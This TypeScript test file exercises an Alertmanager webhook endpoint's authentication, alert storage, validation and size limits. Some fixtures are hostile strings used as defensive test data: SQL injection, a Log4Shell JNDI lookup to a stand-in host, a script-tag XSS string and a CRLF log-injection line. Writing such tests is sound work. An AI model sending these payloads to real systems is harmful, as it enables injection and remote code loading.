// The hook of Alertmanager: who may tell, what is taken, and what a hostile alert can do, which is nothing.

import { connect } from 'node:net'
import { once } from 'node:events'
import { expect } from 'chai'
import fc from 'fast-check'
import type { Log } from '../../../ops/log.ts'
import { readConfig } from '../../../services/config.ts'
import { createToken, revokeToken } from '../../../services/store/tokens.ts'
import { openWorld, type World } from '../../world.ts'
import { serveApi, type Asking, type Served } from './client.ts'

const PATH = '/hooks/alertmanager'
const SECRET = 'a-password-of-alertmanager'

interface Alert {
  status: string
  labels: Record<string, string>
  annotations?: Record<string, string>
  startsAt: string
  endsAt?: string
  generatorURL?: string
  fingerprint: string
}

const alertOf = (more: Partial<Alert> = {}): Alert => ({
  status: 'firing',
  labels: { alertname: 'SourceStale', severity: 'ticket', source: 'lever' },
  annotations: { summary: 'lever has not been read completely for too long' },
  startsAt: '2026-03-01T10:00:00.123456789Z',
  endsAt: '0001-01-01T00:00:00Z',
  generatorURL: 'http://prometheus/graph',
  fingerprint: '00c0ffee00c0ffee',
  ...more,
})
/** A notification as Alertmanager 0.25 sends it. */
const notice = (...alerts: Alert[]) => ({
  version: '4',
  groupKey: '{}/{}:{alertname="SourceStale", source="lever"}',
  truncatedAlerts: 0,
  status: 'firing',
  receiver: 'hook',
  groupLabels: { alertname: 'SourceStale', source: 'lever' },
  commonLabels: { alertname: 'SourceStale' },
  commonAnnotations: {},
  externalURL: 'http://alertmanager',
  alerts,
})
const bearer = (token: string) => ({ authorization: `Bearer ${token}` })

describe('POST /hooks/alertmanager', () => {
  let world: World
  let api: Served
  let clock = Date.parse('2026-03-01T10:01:00Z')
  const lines: { event: string; fields: Record<string, unknown> }[] = []
  beforeEach(async () => {
    world = await openWorld()
    lines.length = 0
    const keep = (event: string, fields: Record<string, unknown> = {}) => void lines.push({ event, fields })
    const log = { ...world.watch.log, info: keep, warn: keep } as Log
    api = await serveApi(
      { ...world, watch: { ...world.watch, log } },
      { config: readConfig({ ALERTMANAGER_HOOK_TOKEN: SECRET }), now: () => new Date(clock) },
    )
  })
  afterEach(async () => {
    await api.close()
    await world.close()
  })

  const tell = (body: unknown, asking: Asking = {}) => api.ask(PATH, { method: 'POST', headers: bearer(SECRET), body, ...asking })
  /** Sends what no client would, and gives what comes back first. */
  const raw = async (headers: string[], ...chunks: string[]): Promise<string> => {
    const socket = connect(api.port, '127.0.0.1').on('error', () => {})
    const head = [
      `POST ${PATH} HTTP/1.1`,
      'Host: localhost',
      `Authorization: Bearer ${SECRET}`,
      'Content-Type: application/json',
      ...headers,
    ]
    socket.write(`${head.join('\r\n')}\r\n\r\n`)
    for (const chunk of chunks) socket.write(chunk)
    try {
      const [answer] = (await once(socket, 'data')) as [Buffer]
      return answer.toString()
    } finally {
      socket.destroy()
    }
  }
  const rows = () => world.db('alerts').select('*').orderBy('fingerprint')
  const failures = (reason: string) => world.metrics.value(world.metrics.authFailures, { reason })
  const received = (status: string) => world.metrics.value(world.metrics.alertsReceived, { status })

  describe('lets in', () => {
    it('whoever has the password, and nobody without it, this machine included', async () => {
      expect((await tell(notice(alertOf()))).status).to.equal(200)
      expect((await tell(notice(alertOf()), { headers: {} })).status).to.equal(401)
      expect((await tell(notice(alertOf()), { headers: bearer(`${SECRET}x`) })).status).to.equal(401)
      expect((await tell(notice(alertOf()), { headers: bearer(SECRET.slice(1)) })).status).to.equal(401)
      expect((await tell(notice(alertOf()), { headers: { authorization: `Basic ${SECRET}` } })).status).to.equal(401)
      expect([await failures('missing'), await failures('unknown')]).to.deep.equal([2, 2])
    })
    it('a token with the scope hooks, and none of another scope', async () => {
      const hooks = await createToken(world.db, 'alertmanager', ['hooks'])
      const read = await createToken(world.db, 'reader', ['read', 'write', 'metrics'])
      expect((await tell(notice(alertOf()), { headers: bearer(hooks.token) })).status).to.equal(200)
      expect((await tell(notice(alertOf()), { headers: bearer(read.token) })).status).to.equal(403)
      await revokeToken(world.db, 'alertmanager')
      expect((await tell(notice(alertOf()), { headers: bearer(hooks.token) })).status).to.equal(401)
      expect([await failures('scope'), await failures('revoked')]).to.deep.equal([1, 1])
    })
    it('the password to the hook alone', async () => {
      expect((await api.ask('/api/v1/alerts', { headers: bearer(SECRET) })).status).to.equal(401)
    })
    it('this machine, where neither a password nor a token was ever made', async () => {
      const open = await serveApi(world)
      try {
        const ask = (headers: Record<string, string>) => open.ask(PATH, { method: 'POST', body: notice(alertOf()), headers })
        expect((await ask({})).status).to.equal(200)
        expect((await ask(bearer(SECRET))).status).to.equal(401)
        expect((await ask({ origin: 'https://evil.example' })).status).to.equal(403)
      } finally {
        await open.close()
      }
    })
  })

  describe('keeps', () => {
    it('what fires and what is over, counts it, and says each change in the log', async () => {
      const first = await tell(notice(alertOf(), alertOf({ fingerprint: 'b2', labels: { alertname: 'OutboxStuck', severity: 'page' } })))
      expect([first.status, first.json]).to.deep.equal([200, { received: 2, changed: 2 }])
      expect((await tell(notice(alertOf()))).json).to.deep.equal({ received: 1, changed: 0 })
      const over = alertOf({ status: 'resolved', endsAt: '2026-03-01T12:04:00.5+02:00' })
      expect((await tell({ ...notice(over), status: 'resolved' })).json).to.deep.equal({ received: 1, changed: 1 })
      const [one, two] = (await rows()) as Record<string, unknown>[]
      expect(one).to.deep.include({
        fingerprint: '00c0ffee00c0ffee',
        alertname: 'SourceStale',
        severity: 'ticket',
        status: 'resolved',
        starts_at: new Date('2026-03-01T10:00:00.123Z'),
        ends_at: new Date('2026-03-01T10:04:00.500Z'),
        receipts: 3,
      })
      expect(two).to.deep.include({ alertname: 'OutboxStuck', status: 'firing', ends_at: null, annotations: alertOf().annotations })
      expect([await received('firing'), await received('resolved')]).to.deep.equal([3, 1])
      expect(
        lines.filter(({ event }) => event.startsWith('alert.')).map(({ event, fields }) => [event, fields['alert']]),
      ).to.have.deep.members([
        ['alert.firing', 'SourceStale'],
        ['alert.firing', 'OutboxStuck'],
        ['alert.resolved', 'SourceStale'],
      ])
    })
    it('the moment of the Watchdog, and no row of it', async () => {
      const watchdog = { alertname: 'Watchdog', severity: 'none' }
      clock = Date.parse('2026-03-01T11:00:00Z')
      expect((await tell(notice(alertOf({ labels: watchdog })))).json).to.deep.equal({ received: 1, changed: 0 })
      const seen = () => world.metrics.value(world.metrics.watchdogLastSeen, {})
      expect(await seen()).to.equal(clock / 1000)
      clock += 60_000
      await tell(notice(alertOf({ labels: watchdog, status: 'resolved' }), alertOf({ fingerprint: 'c3' })))
      expect(await seen()).to.equal(clock / 1000 - 60)
      expect(await received('resolved')).to.equal(1)
      expect(((await rows()) as Record<string, unknown>[]).map((row) => row['fingerprint'])).to.deep.equal(['c3'])
    })
    it('the rest when some were left out, and says how many', async () => {
      expect((await tell({ ...notice(alertOf()), truncatedAlerts: 7 })).json).to.deep.equal({ received: 1, changed: 1 })
      expect(lines).to.deep.include({ event: 'alert.truncated', fields: { received: 1, left_out: 7 } })
    })
    it('what has no more than it must have, and what has more than is known', async () => {
      const { annotations: _words, generatorURL: _link, endsAt: _end, ...bare } = alertOf({ labels: {} })
      expect((await tell({ version: '4', alerts: [bare] })).status).to.equal(200)
      expect((await tell({ ...notice({ ...alertOf({ fingerprint: 'd4' }), novelty: [1] } as Alert), routeID: 'x' })).status).to.equal(200)
      expect(await rows()).to.have.length(2)
      expect((await tell(notice())).json).to.deep.equal({ received: 0, changed: 0 })
    })
  })

  describe('refuses', () => {
    const sentences: [string, unknown, RegExp][] = [
      ['another version', { ...notice(), version: '5' }, /version must be one of 4/],
      ['no list', { version: '4' }, /alerts is missing/],
      ['a list of something else', { version: '4', alerts: [1] }, /alerts\.0 must be an object/],
      ['a label that is no text', { version: '4', alerts: [{ ...alertOf(), labels: { a: 1 } }] }, /alerts\.0\.labels\.a must be text/],
      ['a status that there is not', notice(alertOf({ status: 'pending' })), /alerts\.0\.status must be one of firing, resolved/],
      ['a moment that is none', notice(alertOf({ startsAt: 'yesterday' })), /alerts\.0\.startsAt must be a moment/],
      ['a day that there is not', notice(alertOf({ startsAt: '2026-02-30T00:00:00Z' })), /alerts\.0\.startsAt must be a moment/],
      ['a fingerprint that is none', notice(alertOf({ fingerprint: "'; drop table alerts; --" })), /fingerprint must be hexadecimal/],
      ['no object', [], /must be an object/],
      ['no JSON', '{"version": "4", "alerts": [', /is not JSON/],
    ]
    for (const [what, body, sentence] of sentences)
      it(`${what}, in a sentence`, async () => {
        const { status, json, headers } = await tell(body)
        expect([status, headers['content-type']]).to.deep.equal([400, 'application/problem+json; charset=utf-8'])
        expect(json.errors?.map(({ field, message }) => `${field} ${message}`).join('; ')).to.match(sentence)
        expect(await rows()).to.have.length(0)
        expect(await received('firing')).to.equal(0)
      })
    it('what is not sent as JSON', async () => {
      expect((await tell('x=1', { headers: { ...bearer(SECRET), 'content-type': 'application/x-www-form-urlencoded' } })).status).to.equal(
        415,
      )
    })
    it('ten megabytes before it has read one, and takes nearly one', async () => {
      const nearly = alertOf({ annotations: { description: 'x'.repeat(1000 * 1024) } })
      expect((await tell(notice(nearly))).status).to.equal(200)
      const answer = await raw(['Content-Length: 10485760'])
      expect(answer)
        .to.match(/^HTTP\/1\.1 413 /)
        .and.to.contain('The body is larger than 1024 kB.')
    })
    it('a megabyte and more that is not announced', async () => {
      const chunks = Array.from({ length: 17 }, () => `10000\r\n${'['.repeat(0x10000)}\r\n`)
      expect(await raw(['Transfer-Encoding: chunked'], ...chunks, '0\r\n\r\n')).to.match(/^HTTP\/1\.1 413 /)
    })
    it('other methods', async () => {
      expect((await api.ask(PATH, { headers: bearer(SECRET) })).status).to.equal(405)
    })
  })

  it('takes hostile texts as they are', async () => {
    const labels = {
      alertname: "Robert'); drop table alerts; --",
      severity: '${jndi:ldap://evil.example}',
      source: '<script>alert(1)</script>',
      nul: 'a\0b',
      __proto__x: '{{ .Values }}',
      constructor: 'toString',
      line: 'one\r\nalert.resolved two \u001b[31m',
    }
    expect((await tell(notice(alertOf({ labels })))).json).to.deep.equal({ received: 1, changed: 1 })
    const { json } = await api.ask('/api/v1/alerts', { headers: bearer((await createToken(world.db, 'reader', ['read'])).token) })
    expect(json.items[0]?.['labels']).to.deep.equal({ ...labels, nul: 'a\uFFFDb' })
  })

  it('never answers 5xx, whatever the alert says', async () => {
    const word = fc.string({ unit: 'binary', maxLength: 40 }).map((some) => some.toWellFormed())
    await fc.assert(
      fc.asyncProperty(
        fc.record({
          status: fc.constantFrom('firing', 'resolved'),
          labels: fc.dictionary(word, word, { maxKeys: 5 }),
          annotations: fc.dictionary(word, word, { maxKeys: 3 }),
          startsAt: fc
            .date({ noInvalidDate: true, min: new Date('1970-01-01'), max: new Date('9999-12-31') })
            .map((date) => date.toISOString()),
          fingerprint: fc.bigInt({ min: 0n, max: 2n ** 64n - 1n }).map((hash) => hash.toString(16)),
        }),
        async (alert) => {
          const { status, json } = await tell(notice(alert))
          expect([status, json['received']], JSON.stringify(alert)).to.deep.equal([200, 1])
        },
      ),
      { numRuns: 40 },
    )
  })
})
